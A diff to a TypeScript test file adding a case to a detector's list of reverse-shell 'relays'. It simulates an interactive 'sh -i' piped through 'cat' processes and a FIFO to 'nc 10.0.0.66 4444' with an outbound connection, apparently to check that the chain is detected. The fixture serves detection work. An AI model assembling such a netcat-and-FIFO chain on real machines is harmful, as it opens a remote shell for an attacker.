@@ -150,6 +150,22 @@ const relays: Case[] = [
     ],
     relay: { program: "nc.traditional", fds: [0, 1, 2], input: 7, output: 7 },
   },
+  {
+    name: "the chain's last hop, forked by a subshell (not the shell's family), execs after the connect: found through the stdio index",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash", "-c", "chain"], [tty(1), tty(1), tty(1)], 0),
+      { holds: { 302: [holds(0, "pipe:81", "read"), holds(1, "pipe:82", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(81), pipe(82), tty(1)], 1),
+      { holds: { 303: [holds(0, "fifo:254:1:90", "read"), holds(1, "pipe:80", "write"), holds(3, `sock:${SOCK}`)] } },
+      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [fifo(90), pipe(80), tty(1)], 2),
+      connectedOut(proc(303, 100, "nc"), SOCK, 3),
+      // input hop: pipe 80 -> cat (child of subshell 150) -> pipe 81; output hop: pipe 82 -> cat -> FIFO 90
+      { holds: { 311: [holds(0, "pipe:80", "read"), holds(1, "pipe:81", "write")], 312: [holds(0, "pipe:82", "read"), holds(1, "fifo:254:1:90", "write")] } },
+      ...start(proc(311, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(80), pipe(81), tty(1)], 4),
+      ...start(proc(312, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(82), fifo(90), tty(1)], 5),
+    ],
+    relay: { program: "nc.traditional", fds: [0, 1], input: 2, output: 2 },
+  },
 ];
 
 const notRelays: Case[] = [
